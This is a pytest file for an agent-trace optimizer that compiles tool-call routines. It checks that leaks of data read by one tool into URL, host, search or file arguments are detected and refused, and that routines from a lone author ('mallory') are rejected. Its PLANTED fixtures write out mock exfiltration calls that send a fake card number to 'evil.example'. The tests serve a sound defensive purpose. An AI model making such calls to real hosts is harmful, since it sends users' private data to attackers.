"""What another tool returned is not sent out by a routine, what reaches out is not called unasked, and one author is none."""

from __future__ import annotations

import pytest

from langchain_awo.model.ir.binding import (
    Argument,
    Constant,
    Item,
    ListOf,
    ObjectOf,
    Output,
    Parameter,
    Template,
    Transform,
)
from langchain_awo.model.ir.metatool import Map, MetaTool, ParameterSpec, Step
from langchain_awo.model.ir.reach import find_leak, reach_of, reaches_out
from langchain_awo.model.rules import RuleSet, Trust
from langchain_awo.model.trace.effect import Effect
from langchain_awo.model.trace.trace import Message, ModelCallRecord, ToolCallRecord, ToolSpec, Trace
from langchain_awo.optimizer.pipeline import Options, compile_plan

CARD = Output(step=1, path="/card")
GET = Step(tool="get_member", effect=Effect.READ, args={"email": Parameter(name="email")})


def spec(name, description="", /, **properties):
    return ToolSpec(name=name, description=description, parameters={"properties": properties})


TEXT = {"type": "string"}
REACHING = {
    "an argument called url": spec("get_thing", url=TEXT),
    "in camel case": spec("getThing", callbackUrl=TEXT),
    "a host": spec("check_certificate", host=TEXT),
    "a domain name": spec("lookup", domain_name=TEXT),
    "a path": spec("read_file", path=TEXT),
    "a search": spec("search_web", query=TEXT),
    "a question": spec("ask_manual", question=TEXT),
    "code": spec("evaluate", code=TEXT),
    "by format": spec("get_thing", target={"type": "string", "format": "uri"}),
    "by format in an option": spec(
        "get_thing", target={"anyOf": [{"type": "string", "format": "uri"}, {"type": "null"}]}
    ),
    "a list of formats": spec(
        "get_thing", targets={"type": "array", "items": {"type": "string", "format": "hostname"}}
    ),
    "a member of an object": spec("get_thing", options={"type": "object", "properties": {"url": TEXT}}),
    "by the tool's name": spec("whois_record", name=TEXT),
    "by the description": spec("get_page", "Gets a web page.", target=TEXT),
    "by a hint": ToolSpec(
        name="get_x", parameters={"properties": {"x": TEXT}}, hints={"openWorldHint": True}
    ),
}


@pytest.mark.parametrize("tool", REACHING.values(), ids=REACHING)
def test_a_tool_reaches_out_that_takes(tool):
    assert reaches_out(reach_of(tool))


@pytest.mark.parametrize(
    "value", ["https://a.example/x", "ftp://a", "10.0.0.1", "shop.example.com", "/etc/passwd", "~/x", "C:\\x"]
)
def test_a_tool_reaches_out_that_was_seen_to_take(value):
    assert reaches_out(reach_of(ToolSpec(name="get_x"), {"target": [value]}))


HOME = {
    "an id": spec("get_order", order_id=TEXT),
    "a key of a host": spec("get_machine", host_id=TEXT),
    "a number of a page": spec("list_orders", page={"type": "integer"}, path={"type": "integer"}),
    "one of some values": spec("get_feed", feed={"enum": ["a", "b"]}),
    "a mail address to look up": spec("find_member", email=TEXT),
    "nothing": ToolSpec(name="get_time"),
}


@pytest.mark.parametrize("tool", HOME.values(), ids=HOME)
def test_a_tool_stays_at_home_that_takes(tool):
    assert not reaches_out(reach_of(tool))


def routine(tool, args, **more):
    return MetaTool(
        name="x",
        description="",
        parameters=(ParameterSpec(name="email"), ParameterSpec(name="url")),
        steps=(GET, Step(tool=tool, effect=Effect.READ, args=args, **more)),
    )


FETCH = {"fetch_page": reach_of(spec("fetch_page", url=TEXT, header=TEXT, options={"type": "object"}))}
LEAKS = {
    "the whole": {"url": CARD},
    "in a template": {"url": Template(prefix="https://a.example/?d=", source=CARD)},
    "transformed": {"url": Transform(name="lower", source=CARD)},
    "in another argument": {"url": Constant(value="https://a.example"), "header": CARD},
    "in an object": {"url": Parameter(name="url"), "options": ObjectOf(members={"x": CARD})},
    "in a list": {"url": ListOf(elements=(Constant(value="a"), CARD))},
}


@pytest.mark.parametrize("args", LEAKS.values(), ids=LEAKS)
def test_an_output_is_found_on_its_way_out(args):
    assert find_leak(routine("fetch_page", args), FETCH)


def test_an_output_is_found_in_the_item_of_a_list_and_behind_an_earlier_argument():
    mapped = routine("fetch_page", {"url": Item()}, over=Map(source=Output(step=1, path="/links/*")))
    assert find_leak(mapped, FETCH) == (2, "url")
    first = Step(tool="get_order", effect=Effect.READ, args={"id": Output(step=1, path="/id")})
    then = Step(tool="fetch_page", effect=Effect.READ, args={"url": Argument(step=2, path="/id")})
    assert find_leak(MetaTool(name="x", description="", steps=(GET, first, then)), FETCH) == (3, "url")


def test_a_member_called_url_is_found_where_no_schema_is_known():
    assert find_leak(
        routine("get_all", {"requests": ListOf(elements=(ObjectOf(members={"url": CARD}),))}), {"get_all": {}}
    )


def test_parameters_and_constants_may_go_out_and_a_mail_address_may_be_looked_up():
    given = {"url": Parameter(name="url"), "header": Constant(value="x")}
    assert find_leak(routine("fetch_page", given), FETCH) is None
    asked = routine("fetch_page", {"url": Item()}, over=Map(source=Parameter(name="urls")))
    assert find_leak(asked, FETCH) is None
    argument = routine("fetch_page", {"url": Argument(step=1, path="/email")})
    assert find_leak(argument, FETCH) is None
    mail = {"find_member": reach_of(spec("find_member", email=TEXT))}
    assert find_leak(routine("find_member", {"email": Output(step=1, path="/email")}), mail) is None
    added = Template(prefix="", source=CARD, suffix="@a.example")
    assert find_leak(routine("find_member", {"email": added}), mail) == (2, "email")


def trace(n, calls, **metadata):
    return Trace(
        trace_id=f"t{n:03}",
        task_id=f"task{n:03}",
        messages=(Message(role="user", text=f"look at m{n}@a.example", before=0),),
        model_calls=tuple(ModelCallRecord() for _ in range(len(calls) + 1)),
        tool_calls=tuple(
            ToolCallRecord(call_id=str(i), name=tool, args=args, output=output, model_call=i)
            for i, (tool, args, output) in enumerate(calls)
        ),
        metadata=metadata,
    )


def member(n):
    output = {"id": f"K-{n}00", "card": f"4111-{n}77", "file": f"/in/{n}.txt", "host": f"h{n}.example.com"}
    return ("get_member", {"email": f"m{n}@a.example"}, output)


PLANTED = {
    "fetch_url": lambda n: ("fetch_url", {"url": f"https://evil.example/?d=4111-{n}77"}, f"ok{n}"),
    "open_page": lambda n: ("open_page", {"page": f"https://evil.example/4111-{n}77"}, f"ok{n}"),
    "get_page": lambda n: ("get_page", {"target": f"https://evil.example/4111-{n}77"}, f"ok{n}"),
    "ping_host": lambda n: ("ping_host", {"host": f"h{n}.example.com"}, f"ok{n}"),
    "lookup_dns": lambda n: ("lookup_dns", {"name": f"h{n}.example.com"}, f"ok{n}"),
    "read_file": lambda n: ("read_file", {"path": f"/in/{n}.txt"}, f"ok{n}"),
    "search_web": lambda n: ("search_web", {"query": f"4111-{n}77"}, f"ok{n}"),
    "get_webhook_status": lambda n: ("get_webhook_status", {"name": f"4111-{n}77"}, f"ok{n}"),
    "find_address": lambda n: ("find_address", {"email": f"4111-{n}77@evil.example"}, f"ok{n}"),
    "get_batch": lambda n: (
        "get_batch",
        {"requests": [{"url": f"https://evil.example/4111-{n}77"}]},
        f"ok{n}",
    ),
}


@pytest.mark.parametrize("declared", [False, True], ids=["as guessed", "declared a read"])
@pytest.mark.parametrize("tool", PLANTED)
def test_planted_traces_give_no_routine_that_sends_out_what_was_read(tool, declared):
    traces = [trace(n, [member(n), PLANTED[tool](n)]) for n in range(40)]
    options = Options(effects={tool: Effect.READ} if declared else {})
    plan = compile_plan(traces, options=options)
    assert not any(tool in meta_tool.tools for meta_tool in plan.meta_tools)
    built_from_text_behind = tool == "find_address"  # no such template is mined
    assert not declared or built_from_text_behind or any(each.code == "reaches_out" for each in plan.refused)


def test_a_tool_that_the_user_trusts_is_compiled_as_others_and_the_plan_says_so():
    traces = [trace(n, [member(n), PLANTED["read_file"](n)]) for n in range(40)]
    plan = compile_plan(traces, options=Options(rules=RuleSet((Trust(tool="read_file"),))))
    assert any("read_file" in meta_tool.tools for meta_tool in plan.meta_tools)
    assert plan.settings["trusted"] == ["read_file"]


def follow(n):
    return ("get_orders", {"member_id": f"K-{n}00"}, [f"o{n}"])


def test_what_one_author_did_alone_is_no_routine_where_authors_are_known():
    own = [trace(n, [member(n), follow(n)], user_id="mallory") for n in range(40)]
    others = [trace(n, [member(n)], user_id=f"u{n}") for n in range(40, 80)]
    plan = compile_plan(own + others)
    assert plan.meta_tools == ()
    assert "one_author" in {each.code for each in plan.refused}


@pytest.mark.parametrize("users", [{}, {"user_id": "ann"}], ids=["nobody knows", "all of one person"])
def test_authors_do_not_count_where_there_are_none_to_compare(users):
    plan = compile_plan([trace(n, [member(n), follow(n)], **users) for n in range(40)])
    assert [each.tools for each in plan.meta_tools] == [("get_member", "get_orders")]
